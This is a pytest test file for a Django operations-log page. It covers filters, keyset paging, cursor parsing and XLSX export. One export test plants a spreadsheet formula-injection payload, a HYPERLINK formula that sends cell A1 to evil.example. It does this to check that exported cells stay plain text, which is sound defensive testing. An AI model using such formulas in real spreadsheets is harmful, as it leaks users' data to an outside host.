"""#8.6: the 操作日志 page reads in words, filters by category, person, unit and date, pages with a
keyset (never every row), and exports the filtered log with text cells only."""

from __future__ import annotations

import datetime as dt
import io
import re

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from jixiao.activity.models import Event
from jixiao.activity.selectors import Cursor, EventFilter, event_page
from jixiao.activity.services import record_event


def rows_of(html: str) -> list[str]:
    body = html.split("<tbody>", 1)[1].split("</tbody>", 1)[0]
    return [r for r in body.split("<tr>")[1:]]


@pytest.fixture
def log(world):
    record_event(
        actor=world.head, action="evaluation.submit", target=world.evaluation, summary="报送甲"
    )
    record_event(
        actor=world.department_reviewer,
        action="evaluation.department_return",
        target=world.evaluation,
        summary="退回甲",
    )
    record_event(
        actor=world.other_editor,
        action="evidence.upload",
        target=world.other_evaluation,
        summary="上传乙",
    )
    record_event(
        actor=world.bureau_admin, action="ruleset.upload", target=world.campaign, summary="规则集丙"
    )
    return world


def test_entries_read_in_words_not_codes(client, log):
    client.force_login(log.bureau_admin)
    html = client.get(reverse("activity:list")).content.decode()
    assert "上传规则集" in html and "规则集" in html
    assert "主管部门退回" in html and "审核" in html
    assert "ruleset.upload" not in html and "evaluation.department_return" not in html


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"category": "review"}, ["退回甲", "报送甲"]),
        ({"category": "ruleset"}, ["规则集丙"]),
        ({"who": "dept"}, ["退回甲"]),
        ({"unit": "职业技能鉴定"}, ["退回甲", "报送甲"]),
        ({"q": "乙"}, ["上传乙"]),
        ({"category": "entry", "who": "other_editor"}, ["上传乙"]),
    ],
)
def test_filters(client, log, params, expected):
    client.force_login(log.bureau_admin)
    html = client.get(reverse("activity:list"), params).content.decode()
    shown = [s for s in ("报送甲", "退回甲", "上传乙", "规则集丙") if s in html]
    assert sorted(shown) == sorted(expected)


def test_date_filter_is_inclusive_in_local_days(client, log):
    today = timezone.localdate()
    client.force_login(log.bureau_admin)
    html = client.get(reverse("activity:list"), {"date_from": today, "date_to": today}).content
    assert "报送甲" in html.decode()
    tomorrow = today + dt.timedelta(days=1)
    html = client.get(reverse("activity:list"), {"date_from": tomorrow}).content.decode()
    assert "报送甲" not in html
    refused = client.get(reverse("activity:list"), {"date_from": tomorrow, "date_to": today})
    assert "截止日期不能早于起始日期" in refused.content.decode()


def test_keyset_pages_cover_every_entry_once_and_go_back(world):
    for i in range(7):
        record_event(
            actor=world.editor,
            action="evidence.upload",
            target=world.evaluation,
            summary=f"第{i}条",
        )
    seen: list[str] = []
    page = event_page(user=world.bureau_admin, filters=EventFilter(), size=3)
    pages = [page]
    assert page.newer is None
    while page.older is not None:
        page = event_page(
            user=world.bureau_admin, filters=EventFilter(), older_than=page.older, size=3
        )
        pages.append(page)
    for p in pages:
        seen += [e.summary for e in p.events]
    assert seen == [f"第{i}条" for i in reversed(range(7))]
    assert [len(p.events) for p in pages] == [3, 3, 1]
    back = event_page(
        user=world.bureau_admin, filters=EventFilter(), newer_than=pages[2].newer, size=3
    )
    assert [e.summary for e in back.events] == [e.summary for e in pages[1].events]
    assert back.newer is not None and back.older is not None


def test_cursor_text_round_trips_and_junk_is_ignored(client, world):
    event = record_event(
        actor=world.editor, action="evidence.upload", target=world.evaluation, summary="x"
    )
    cursor = Cursor.of(event)
    assert Cursor.parse(str(cursor)) == cursor
    for junk in ("", "abc", "1.2.3", "9" * 40 + ".1", "-5.3", "99999999999999999.1"):
        parsed = Cursor.parse(junk)
        assert parsed is None or parsed.pk == 1
    client.force_login(world.bureau_admin)
    assert client.get(reverse("activity:list"), {"older": "9" * 40 + ".1"}).status_code == 200


def test_the_page_never_loads_every_row(client, world):
    client.force_login(world.bureau_admin)

    def queries() -> int:
        with CaptureQueriesContext(connection) as ctx:
            assert client.get(reverse("activity:list")).status_code == 200
        return len(ctx)

    record_event(actor=world.editor, action="evidence.upload", target=world.evaluation, summary="a")
    few = queries()
    Event.objects.bulk_create(
        Event(action="evidence.upload", category="entry", summary=f"批量{i}") for i in range(120)
    )
    assert queries() == few
    html = client.get(reverse("activity:list")).content.decode()
    assert len(rows_of(html)) == 50
    assert "较早的记录" in html and "较新的记录" not in html
    older = re.search(r'older=([0-9.]+)"', html)
    assert older is not None
    second = client.get(reverse("activity:list") + f"?older={older.group(1)}").content.decode()
    assert "较新的记录" in second


def test_export_holds_the_filtered_log_in_text_cells(client, world):
    record_event(
        actor=world.editor,
        action="evidence.upload",
        target=world.evaluation,
        summary='=HYPERLINK("http://evil.example/"&A1,"点击")',
    )
    record_event(
        actor=world.bureau_admin, action="ruleset.upload", target=world.campaign, summary="规则集"
    )
    client.force_login(world.bureau_admin)
    response = client.get(reverse("activity:export"), {"category": "entry"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[c.value for c in row] for row in sheet.iter_rows()]
    header = rows[1]
    assert header[:4] == ["时间", "类别", "操作", "操作人"]
    data = rows[2:]
    assert len(data) == 1  # the filter applies to the export
    assert data[0][1:3] == ["填报", "上传佐证材料"]
    assert data[0][9] == '=HYPERLINK("http://evil.example/"&A1,"点击")'
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"


def test_a_large_export_is_a_job_with_the_same_filter(
    client, world, monkeypatch, django_capture_on_commit_callbacks
):
    from jixiao.jobs.models import Job

    for n in range(3):
        record_event(
            actor=world.editor,
            action="evidence.upload",
            target=world.evaluation,
            summary=f"上传{n}",
        )
    record_event(
        actor=world.bureau_admin, action="ruleset.upload", target=world.campaign, summary="规则集"
    )
    monkeypatch.setattr("jixiao.activity.views.INLINE_ROWS", 2)
    client.force_login(world.bureau_admin)
    with django_capture_on_commit_callbacks(execute=True):
        response = client.get(reverse("activity:export"), {"category": "entry"})
    job = Job.objects.get(kind="activity.log_xlsx")
    assert response.status_code == 302
    assert response["Location"] == reverse("jobs:detail", args=[job.pk])
    job.refresh_from_db()
    assert (job.state, job.params) == ("done", {"filters": {"category": "entry"}})
    with job.result.open("rb") as stored:
        sheet = load_workbook(io.BytesIO(stored.read())).active
    summaries = sorted(row[9].value for row in sheet.iter_rows(min_row=3))
    assert summaries == ["上传0", "上传1", "上传2"]  # the filter held: no 规则集
